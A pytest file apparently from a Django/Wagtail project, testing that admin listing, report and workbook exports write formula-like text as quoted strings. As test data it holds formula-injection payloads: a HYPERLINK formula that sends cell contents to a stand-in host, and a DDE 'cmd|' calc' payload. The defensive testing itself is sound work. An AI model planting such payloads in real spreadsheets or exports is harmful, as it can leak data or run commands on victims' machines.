"""Formula injection: an organization named =HYPERLINK("http://x.invalid/?"&B2,"详情")
was written as a live formula by every listing's CSV export. Every export path —
each admin listing's CSV and Excel export (found through the registered viewsets,
not a hand-kept list), Wagtail's own reports, and the workbooks built with
`frame_to_xlsx` — now writes it as text; an exported file imports back to the
original name (that round trip: tests/core/test_import_limits.py).

Why the earlier tests missed it: `test_fuzz_imports.test_exported_text_never_becomes
_a_formula` covered `frame_to_xlsx` only (the ranking, review and roll-up workbooks);
no test exported a listing, and none looked at CSV at all.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.core.exceptions import FieldDoesNotExist
from django.db import transaction
from django.db.models import CharField, TextField
from django.test import Client, override_settings
from django.urls import NoReverseMatch, reverse
from django.utils.functional import empty
from openpyxl import load_workbook

from core.spreadsheets import is_formula_like, neutralize_formula
from incubator.models import Organization
from tests.support.permission_world import SUPERUSER, build_world

NAME = '=HYPERLINK("http://x.invalid/?"&B2,"详情")'
# Text columns that are keys or codes, left as they are.
KEYS = {"code", "uscc", "username", "email", "password", "hostname"}


# --- the function ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (NAME, "'" + NAME),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("长沙市雨花区社会工作服务中心", "长沙市雨花区社会工作服务中心"),
        ("a=b", "a=b"),
        ("-5", "-5"),  # a number written as text stays a number
        ("+3.5", "+3.5"),
        (Decimal("-5"), Decimal("-5")),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralize_formula(value, written):
    assert neutralize_formula(value) == written
    assert type(neutralize_formula(value)) is type(written)


# --- every export path ------------------------------------------------------------


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker, tmp_path_factory):
    """The permission matrix's world (one object of every kind), every name and
    title of it set to a formula; rolled back at the end of the module."""
    from projects.models import _private_storage

    media = tmp_path_factory.mktemp("export-media")
    overrides = override_settings(
        MEDIA_ROOT=str(media / "public"),
        PRIVATE_MEDIA_ROOT=str(media / "private"),
        STORAGES={
            "default": {"BACKEND": "django.core.files.storage.FileSystemStorage"},
            "staticfiles": {
                "BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"
            },
        },
    )
    overrides.enable()
    _private_storage._wrapped = empty
    django_db_blocker.unblock()
    atomic = transaction.atomic()
    atomic.__enter__()
    try:
        data = build_world()
        _name_everything_a_formula(data)
        data.client = Client(raise_request_exception=True)
        data.client.force_login(data.users[SUPERUSER])
        django_db_blocker.restore()
        yield data
        django_db_blocker.unblock()
    finally:
        transaction.set_rollback(True)
        atomic.__exit__(None, None, None)
        django_db_blocker.restore()
        overrides.disable()
        _private_storage._wrapped = empty


def _name_everything_a_formula(w):
    from funding.models import Call, Fund
    from funding.models.purchases import ServicePurchase
    from incubator.models import IncubationBase
    from incubator.models.activities import ServiceActivity
    from projects.models import Project

    for model, field in [
        (Organization, "name"),
        (IncubationBase, "name"),
        (ServiceActivity, "topic"),
        (Fund, "name"),
        (Call, "name"),
        (ServicePurchase, "title"),
        (Project, "title"),
    ]:
        for n, pk in enumerate(
            model.objects.order_by("pk").values_list("pk", flat=True)
        ):
            model.objects.filter(pk=pk).update(
                **{field: NAME if n == 0 else f"{NAME}{n}"}
            )
    from funding.models import Application

    Application.objects.update(title=NAME)
    # And the first record of every exporting listing: each text column it
    # exports (cut to the field's length: still a formula).
    for viewset in _exporting_viewsets():
        model = viewset.model
        first = model.objects.order_by("pk").values_list("pk", flat=True).first()
        for name in viewset.list_export:
            try:
                field = model._meta.get_field(name)
            except FieldDoesNotExist:
                continue
            if (
                isinstance(field, (CharField, TextField))
                and not field.choices
                and name not in KEYS
                and first is not None
            ):
                value = NAME[: field.max_length] if field.max_length else NAME
                model.objects.filter(pk=first).update(**{name: value})
    page = w.page
    page.title = NAME
    page.save_revision(user=w.users[SUPERUSER]).publish()
    page.refresh_from_db()
    page.locked, page.locked_by = True, w.users[SUPERUSER]
    page.save()


def _exporting_viewsets():
    from wagtail.admin.viewsets import viewsets

    reverse("wagtailadmin_home")  # loads the URLconf, which registers the viewsets
    return [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(getattr(viewset, "list_export", None), (list, tuple))
        and viewset.list_export
        and isinstance(viewset.get_url_name("index"), str)  # pages: the explorer
    ]


def _listing_exports():
    """The index URL name of every registered admin viewset that exports."""
    return sorted({_index_url_name(viewset) for viewset in _exporting_viewsets()})


def _index_url_name(viewset):
    """A snippet's listing is named "list", a ModelViewSet's "index"."""
    for name in ("list", "index"):
        try:
            reverse(viewset.get_url_name(name))
        except NoReverseMatch:
            continue
        return viewset.get_url_name(name)
    raise AssertionError(f"{viewset} has no listing URL")


REPORTS = [
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:site_history",
]


def test_the_listings_that_export_are_all_found():
    """The enumeration below is not empty by accident: the product's own
    listings with an export are in it."""
    found = set(_listing_exports())
    assert {
        "wagtailsnippets_incubator_organization:list",
        "wagtailsnippets_funding_application:list",
        "wagtailsnippets_funding_award:list",
    } <= found, found
    assert len(found) >= 14, found


def _csv_cells(content):
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _get(world, url_name, export):
    try:
        url = reverse(url_name)
    except NoReverseMatch:
        pytest.fail(f"{url_name} has no URL")
    response = world.client.get(url, {"export": export})
    assert response.status_code == 200, (url_name, response.status_code)
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content)
    return b"".join(response)


@pytest.mark.django_db
@pytest.mark.parametrize("url_name", [*_listing_exports(), *REPORTS])
def test_every_csv_export_writes_a_formula_as_text(world, url_name):
    cells = _csv_cells(_get(world, url_name, "csv"))
    assert [c for c in cells if is_formula_like(c)] == []
    neutralized = [c for c in cells if c.startswith("'") and is_formula_like(c[1:])]
    assert neutralized, (url_name, cells[:40])


@pytest.mark.django_db
@pytest.mark.parametrize("url_name", [*_listing_exports(), *REPORTS])
def test_every_xlsx_export_writes_a_formula_as_text(world, url_name):
    sheet = load_workbook(io.BytesIO(_get(world, url_name, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [c for c in cells if c.data_type == "f"]
    formulas = [c for c in cells if is_formula_like(c.value)]
    assert formulas, (url_name, [c.value for c in cells][:40])
    for cell in formulas:
        assert cell.data_type == "s" and cell.quotePrefix, (url_name, cell.value)


@pytest.mark.django_db
def test_amounts_stay_numbers_in_both_formats(world):
    """The awards listing's amounts: numbers in Excel, unquoted in CSV."""
    url_name = "wagtailsnippets_funding_award:list"
    sheet = load_workbook(io.BytesIO(_get(world, url_name, "xlsx"))).active
    numbers = [
        c for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "n"
    ]
    assert any(c.value == 100000 for c in numbers)
    assert not [
        c for c in _csv_cells(_get(world, url_name, "csv")) if c.startswith("'1")
    ]


def test_the_funding_workbooks_write_a_formula_as_text():
    """The ranking, my-reviews and roll-up workbooks go through frame_to_xlsx."""
    from funding.views.exports import _workbook

    cell = load_workbook(io.BytesIO(_workbook([[NAME, -5]], ["名称", "金额"]))).active
    assert (cell["A2"].value, cell["A2"].data_type, cell["A2"].quotePrefix) == (
        NAME,
        "s",
        True,
    )
    assert (cell["B2"].value, cell["B2"].data_type) == (-5, "n")
